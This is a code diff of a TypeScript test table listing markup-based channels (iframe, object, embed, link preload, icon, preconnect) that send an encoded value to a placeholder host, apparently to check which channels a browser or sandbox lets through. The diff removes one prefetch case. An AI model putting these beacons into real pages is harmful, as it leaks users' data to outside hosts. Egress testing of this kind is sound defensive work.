@@ -28,7 +28,6 @@ export const MARKUP: readonly ChannelCase[] = [
   { id: 'frame', what: 'iframe', act: make('iframe', 'src') },
   { id: 'object', what: 'object', act: `const it = document.createElement('object'); it.type = 'image/png'; it.data = U + '/c?e=' + encodeURIComponent(E); document.body.append(it);` },
   { id: 'embed', what: 'embed', act: `const it = document.createElement('embed'); it.type = 'image/png'; it.src = U + '/c?e=' + encodeURIComponent(E); document.body.append(it);` },
-  { id: 'link-prefetch', what: 'link rel=prefetch', act: `const it = document.createElement('link'); it.rel = 'prefetch'; it.href = U + '/c?e=' + encodeURIComponent(E); document.head.append(it);` },
   { id: 'link-preload', what: 'link rel=preload', act: `const it = document.createElement('link'); it.rel = 'preload'; it.as = 'image'; it.href = U + '/c?e=' + encodeURIComponent(E); document.head.append(it);` },
   { id: 'link-icon', what: 'link rel=icon', act: `const it = document.createElement('link'); it.rel = 'icon'; it.href = U + '/c?e=' + encodeURIComponent(E); document.head.append(it);`, sees: { command: 'absent' }, because: 'a headless browser loads no icons' },
   { id: 'link-preconnect', what: 'link rel=preconnect', act: `const it = document.createElement('link'); it.rel = 'preconnect'; it.href = U; document.head.append(it);`, truth: 'unheard', sees: { chromium: 'contact', firefox: 'contact', command: 'contact' }, because: 'nothing is sent but the connection itself' },
